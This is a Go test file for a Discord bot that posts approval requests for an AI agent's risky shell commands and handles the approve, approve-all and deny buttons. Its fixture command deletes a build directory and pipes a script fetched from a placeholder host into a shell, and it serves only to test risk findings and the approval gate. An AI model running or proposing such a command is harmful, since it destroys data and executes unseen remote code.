package discordbot

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/bwmarrin/discordgo"

	"github.com/agentbot/agentbot/agentflow"
	"github.com/agentbot/agentbot/agentflow/risk"
	"github.com/agentbot/agentbot/bot"
	"github.com/agentbot/agentbot/internal/fakediscord"
)

const testApprovalID = "t3-call_abc"

// waitingApproval is an approval of turn 3 waiting for an answer: a
// command with a run of backticks, findings with markdown characters.
func waitingApproval() agentflow.ApprovalView {
	return agentflow.ApprovalView{
		ID: testApprovalID, Turn: 3, Mode: agentflow.ApprovalRisky, Need: 1, State: agentflow.ApprovalWaiting,
		Command: "rm -rf /srv/build && curl https://x.example/i.sh | sh # ```",
		Findings: []risk.Finding{
			{Rule: "rm-recursive", Reason: "rm -r of a directory (/srv/build)"},
			{Rule: "pipe-to-shell", Reason: "runs a downloaded script, *unseen*"},
		},
		Expires: time.Unix(1_800_000_000, 0),
	}
}

func approvalMsg(thread string, v agentflow.ApprovalView) agentflow.Outbound {
	return agentflow.Outbound{Thread: thread, Key: "agent/" + thread + "/3/approval/" + v.ID, Kind: agentflow.OutboundApproval,
		Turn: v.Turn, Text: agentflow.Text{Inline: "Approval needed for: " + v.Command}, Approval: &v}
}

// wireButtons returns the buttons of components as posted: custom ID →
// style.
func wireButtons(t *testing.T, raw json.RawMessage) map[string]int {
	t.Helper()
	out := map[string]int{}
	if len(raw) == 0 || string(raw) == "null" {
		return out
	}
	var rows []struct {
		Components []struct {
			Type     int    `json:"type"`
			CustomID string `json:"custom_id"`
			Style    int    `json:"style"`
		} `json:"components"`
	}
	if err := json.Unmarshal(raw, &rows); err != nil {
		t.Fatalf("components %s: %v", raw, err)
	}
	for _, r := range rows {
		for _, c := range r.Components {
			out[c.CustomID] = c.Style
		}
	}
	return out
}

// TestApprovalMessage: an approval is one message with the command, its
// findings and the three buttons carrying its ID; delivering it again
// (from this worker or another) posts nothing more; its decision edits
// the same message, which loses its buttons and says who decided.
func TestApprovalMessage(t *testing.T) {
	srv := newFake(t)
	s := newTestSender(t, srv)
	ch := srv.AddChannel("general", fakediscord.ChannelText)
	thread := ThreadKey(srv.Options().GuildID, ch)
	ctx := context.Background()
	v := waitingApproval()
	m := approvalMsg(thread, v)
	if err := s.Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	msgs := srv.Messages(ch)
	if len(msgs) != 1 {
		t.Fatalf("%d messages, want 1", len(msgs))
	}
	msg := msgs[0]
	if findMarker(msg.Content) != Marker(m.Key) {
		t.Errorf("the message carries no marker of its key:\n%q", msg.Content)
	}
	for _, want := range []string{
		"🔐 **Approval needed** · turn 3",
		"```\nrm -rf /srv/build && curl https://x.example/i.sh | sh # `\u200b`\u200b`\n```",
		"• `rm-recursive`: rm -r of a directory (/srv/build)",
		`• ` + "`pipe-to-shell`" + `: runs a downloaded script, \*unseen\*`,
		"Needs an approval by the session's owner or an admin · expires <t:1800000000:R>",
	} {
		if !strings.Contains(msg.Content, want) {
			t.Errorf("the approval message lacks %q:\n%s", want, msg.Content)
		}
	}
	want := map[string]int{
		ActionApprove + ":" + testApprovalID:    int(discordgo.SuccessButton),
		ActionApproveAll + ":" + testApprovalID: int(discordgo.PrimaryButton),
		ActionDeny + ":" + testApprovalID:       int(discordgo.DangerButton),
	}
	if b := wireButtons(t, msg.Components); len(b) != 3 || b[ActionApprove+":"+testApprovalID] != want[ActionApprove+":"+testApprovalID] ||
		b[ActionApproveAll+":"+testApprovalID] != want[ActionApproveAll+":"+testApprovalID] ||
		b[ActionDeny+":"+testApprovalID] != want[ActionDeny+":"+testApprovalID] {
		t.Errorf("buttons %v, want %v", b, want)
	}

	// The same delivery again, from this worker and from another (which
	// finds the message by its marker), posts nothing.
	const post = "POST /channels/{channel}/messages"
	posts := srv.Calls(post)
	if err := s.Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	if err := newTestSender(t, srv).Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	if n := srv.Calls(post); n != posts || len(srv.Messages(ch)) != 1 {
		t.Fatalf("a repeated delivery posted again: %d posts (want %d), %d messages", n, posts, len(srv.Messages(ch)))
	}

	// The decision edits the message: no buttons, who and when.
	v.State, v.DecidedBy, v.DecidedAt, v.Approvers = agentflow.ApprovalDenied, "43", time.Unix(1_800_000_100, 0), nil
	decided := approvalMsg(thread, v)
	const patch = "PATCH /channels/{channel}/messages/{message}"
	edits := srv.Calls(patch)
	if err := s.Deliver(ctx, decided); err != nil {
		t.Fatal(err)
	}
	msgs = srv.Messages(ch)
	if len(msgs) != 1 || msgs[0].ID != msg.ID {
		t.Fatalf("the decision made %d messages, want the one edited", len(msgs))
	}
	if n := srv.Calls(patch); n != edits+1 {
		t.Errorf("%d edits for the decision, want 1", n-edits)
	}
	if b := wireButtons(t, msgs[0].Components); len(b) != 0 {
		t.Errorf("the decided approval still has buttons: %v", b)
	}
	for _, want := range []string{"🚫 **Denied** · turn 3", "Denied by <@43>, <t:1800000100:f>. The command was not run.", "rm -rf /srv/build"} {
		if !strings.Contains(msgs[0].Content, want) {
			t.Errorf("the decided approval lacks %q:\n%s", want, msgs[0].Content)
		}
	}
	// Delivered again, it changes nothing.
	if err := s.Deliver(ctx, decided); err != nil {
		t.Fatal(err)
	}
	if srv.Calls(patch) != edits+1 || srv.Calls(post) != posts {
		t.Errorf("a repeated decision made calls: %d edits, %d posts", srv.Calls(patch)-edits, srv.Calls(post)-posts)
	}
}

// TestApprovalOutcomes: each decided state says what became of the
// command, and has no buttons (an empty list, so an edit removes them);
// an ID too long for a custom ID gets no buttons but a hint.
func TestApprovalOutcomes(t *testing.T) {
	at := time.Unix(1_800_000_100, 0)
	tests := []struct {
		name string
		mod  func(*agentflow.ApprovalView)
		want []string
		btns bool
	}{
		{"two-person", func(v *agentflow.ApprovalView) { v.Need, v.Approvers = 2, []string{"42"} }, []string{
			"Needs 2 approvals by different people", "1 so far: <@42>"}, true},
		{"every command", func(v *agentflow.ApprovalView) { v.Mode, v.Findings = agentflow.ApprovalAlways, nil }, []string{
			"asks before every shell command"}, true},
		{"approved for the turn", func(v *agentflow.ApprovalView) {
			v.State, v.DecidedBy, v.DecidedAt, v.All = agentflow.ApprovalApproved, "42", at, true
		}, []string{"✅ **Approved**", "Approved by <@42>, <t:1800000100:f>, with the rest of this turn's commands."}, false},
		{"expired", func(v *agentflow.ApprovalView) { v.State = agentflow.ApprovalExpired },
			[]string{"⌛ **Expired**", "Nobody answered by <t:1800000000:f>. The command was not run."}, false},
		{"cancelled", func(v *agentflow.ApprovalView) { v.State = agentflow.ApprovalCancelled },
			[]string{"⏹️ **Cancelled**", "The turn was stopped before an answer"}, false},
		{"a name, not an ID", func(v *agentflow.ApprovalView) {
			v.State, v.DecidedBy = agentflow.ApprovalDenied, "@everyone *x*"
		}, []string{`Denied by @everyone \*x\*`}, false},
		{"an ID too long for a custom ID", func(v *agentflow.ApprovalView) { v.ID = strings.Repeat("a", 90) },
			[]string{"Answer with `/agent approve` or `/agent deny`."}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := waitingApproval()
			tt.mod(&v)
			content, comps := renderApproval(v)
			for _, w := range tt.want {
				if !strings.Contains(content, w) {
					t.Errorf("lacks %q:\n%s", w, content)
				}
			}
			if comps == nil {
				t.Fatal("nil components: an edit would keep the old buttons")
			}
			raw, _ := json.Marshal(comps)
			if b := wireButtons(t, raw); (len(b) == 3) != tt.btns || (!tt.btns && len(b) != 0) {
				t.Errorf("buttons %v, want them: %v", b, tt.btns)
			}
		})
	}
}

// TestApprovalFitsDiscord: a huge command and many findings still make
// one message within Discord's limit (the fake checks it), the command
// cut.
func TestApprovalFitsDiscord(t *testing.T) {
	srv := newFake(t)
	s := newTestSender(t, srv)
	ch := srv.AddChannel("general", fakediscord.ChannelText)
	v := waitingApproval()
	v.Command = strings.Repeat("``x", 5000)
	for i := 0; i < 40; i++ {
		v.Findings = append(v.Findings, risk.Finding{Rule: "rule", Reason: strings.Repeat("*", 300)})
	}
	if err := s.Deliver(context.Background(), approvalMsg(ThreadKey(srv.Options().GuildID, ch), v)); err != nil {
		t.Fatal(err)
	}
	msgs := srv.Messages(ch)
	if len(msgs) != 1 {
		t.Fatalf("%d messages", len(msgs))
	}
	c := msgs[0].Content
	if n := utf8.RuneCountInString(c); n > MaxMessage {
		t.Errorf("%d characters", n)
	}
	if !strings.Contains(c, "…") || !strings.Contains(c, "more*") || !strings.Contains(c, "expires") {
		t.Errorf("the command or the findings were not cut, or the end is lost:\n%s", c)
	}
	if strings.Count(c, "```") != 2 {
		t.Errorf("the code block is broken:\n%s", c)
	}
	if len(wireButtons(t, msgs[0].Components)) != 3 {
		t.Error("a long approval lost its buttons")
	}
}

// TestApprovalCommandText: the buttons' custom IDs make the commands of
// the grammar; one whose ID is no approval ID makes none.
func TestApprovalCommandText(t *testing.T) {
	click := func(custom string) *discordgo.Interaction {
		b, _ := json.Marshal(map[string]any{"type": 3, "data": map[string]any{"custom_id": custom, "component_type": 2}})
		return interaction(t, string(b))
	}
	if MaxApprovalID != bot.MaxApprovalIDLen {
		t.Errorf("MaxApprovalID %d, the grammar's %d", MaxApprovalID, bot.MaxApprovalIDLen)
	}
	long := strings.Repeat("a", MaxApprovalID)
	for _, tt := range []struct{ custom, want string }{
		{ActionApprove + ":" + testApprovalID, "approve " + testApprovalID},
		{ActionApproveAll + ":" + testApprovalID, "approve " + testApprovalID + " --all"},
		{ActionDeny + ":" + testApprovalID, "deny " + testApprovalID},
		{ActionDeny + ":a.b:c-d_e", "deny a.b:c-d_e"},
		{ActionApprove + ":" + long, "approve " + long},
		{ActionApprove + ":" + long + "a", ""},
		{ActionApprove + ":", ""},
		{ActionApprove, ""},
		{ActionApprove + ":t3 call", ""},
		{ActionApprove + ":t3\tcall", ""},
		{ActionApprove + ":--all", ""},
		{ActionApprove + `:"t3"`, ""},
		{ActionApprove + ":é", ""},
		{"agent_approve_some:" + testApprovalID, ""},
		{ActionStop + ":" + testApprovalID, ""},
	} {
		got, ok := commandText(click(tt.custom))
		if got != tt.want || ok != (tt.want != "") {
			t.Errorf("%q: %q, %v; want %q", tt.custom, got, ok, tt.want)
		}
		if ok && bot.Verb("approve").Valid() {
			// The grammar reads it back as the same command.
			cmd, err := bot.Parse(got, nil)
			if err != nil || cmd.String() != got {
				t.Errorf("Parse(%q) = %q, %v", got, cmd.String(), err)
			}
		}
	}
}

// TestApprovalButtons: a click on each button of an approval message,
// over the gateway and over HTTP, is acknowledged as the status message's
// buttons are and reaches the handler as the command of the member who
// clicked, in the message's channel; a click whose custom ID holds no
// approval ID reaches nothing.
func TestApprovalButtons(t *testing.T) {
	const clicker = "43"
	for _, mode := range []string{"gateway", "http"} {
		t.Run(mode, func(t *testing.T) {
			srv := newFake(t)
			rec := newRecorder()
			in := startInbound(t, srv, rec, nil)
			url := ""
			if mode == "http" {
				hs := httptest.NewServer(in.HTTPHandler())
				t.Cleanup(hs.Close)
				url = hs.URL + "/discord/interactions"
				srv.SetInteractionsURL(url)
			}
			ch := srv.AddChannel("general", fakediscord.ChannelText)
			key := ThreadKey(srv.Options().GuildID, ch)
			s := newTestSender(t, srv)
			if err := s.Deliver(context.Background(), approvalMsg(key, waitingApproval())); err != nil {
				t.Fatal(err)
			}
			approval := srv.Messages(ch)[0]

			for _, tt := range []struct{ custom, want, verb string }{
				{ActionApprove, "approve " + testApprovalID, "approve"},
				{ActionApproveAll, "approve " + testApprovalID + " --all", "approve"},
				{ActionDeny, "deny " + testApprovalID, "deny"},
			} {
				inv, err := srv.ComponentClick(ch, approval.ID, clicker, []string{"R2"}, tt.custom+":"+testApprovalID)
				if err != nil {
					t.Fatal(err)
				}
				ev := rec.next(t)
				if ev.Kind != bot.KindCommand || ev.Text != tt.want || ev.ThreadKey != key || ev.ID != inv.ID ||
					ev.User != clicker || len(ev.Roles) != 1 || ev.Roles[0] != "R2" {
					t.Errorf("%s clicked: %+v", tt.custom, ev)
				}
				if bot.Verb(tt.verb).Valid() {
					if cmd, err := bot.Parse(ev.Text, nil); err != nil || string(cmd.Verb) != tt.verb {
						t.Errorf("the grammar reads %q as %q: %v", ev.Text, cmd.Verb, err)
					}
				}
				// Acknowledged at once with a deferred answer, as the
				// status message's buttons are.
				waitFor(t, srv, func(s *fakediscord.Server) bool { return len(responses(s, inv, "callback")) > 0 })
				if cb := responses(srv, inv, "callback"); cb[0].Type != 5 || cb[0].Status != http.StatusOK &&
					cb[0].Status != http.StatusNoContent {
					t.Errorf("%s: callback %+v, want a deferred answer", tt.custom, cb[0])
				}
			}

			// Buttons whose custom ID holds no approval ID (Discord takes
			// them; they are not ours) start nothing.
			bad, err := s.dg.ChannelMessageSendComplex(ch, &discordgo.MessageSend{Content: "bad", Components: []discordgo.MessageComponent{
				discordgo.ActionsRow{Components: []discordgo.MessageComponent{
					discordgo.Button{CustomID: ActionApprove + ":t3 call", Label: "a", Style: discordgo.PrimaryButton},
					discordgo.Button{CustomID: ActionDeny + ":--all", Label: "b", Style: discordgo.PrimaryButton},
					discordgo.Button{CustomID: ActionApproveAll + ":", Label: "c", Style: discordgo.PrimaryButton},
				}},
			}})
			if err != nil {
				t.Fatal(err)
			}
			for _, custom := range []string{ActionApprove + ":t3 call", ActionDeny + ":--all", ActionApproveAll + ":"} {
				inv, err := srv.ComponentClick(ch, bad.ID, clicker, nil, custom)
				if err != nil {
					t.Fatal(err)
				}
				if mode == "http" {
					waitFor(t, srv, func(s *fakediscord.Server) bool { return len(responses(s, inv, "callback")) > 0 })
					if cb := responses(srv, inv, "callback"); cb[0].Status != http.StatusBadRequest {
						t.Errorf("%q: callback %+v, want the request refused", custom, cb[0])
					}
				}
			}
			rec.none(t)
			if mode == "http" {
				// A signed interaction with an ID longer than any custom
				// ID Discord takes is refused too.
				body, _ := json.Marshal(map[string]any{"id": "99", "application_id": srv.Options().AppID, "type": 3, "token": "t",
					"channel_id": ch, "guild_id": srv.Options().GuildID,
					"data": map[string]any{"custom_id": ActionApprove + ":" + strings.Repeat("a", MaxApprovalID+1), "component_type": 2}})
				resp, err := srv.PostInteraction(url, body, fakediscord.SignValid)
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				if resp.StatusCode != http.StatusBadRequest {
					t.Errorf("status %d, want 400", resp.StatusCode)
				}
				rec.none(t)
			}
		})
	}
}
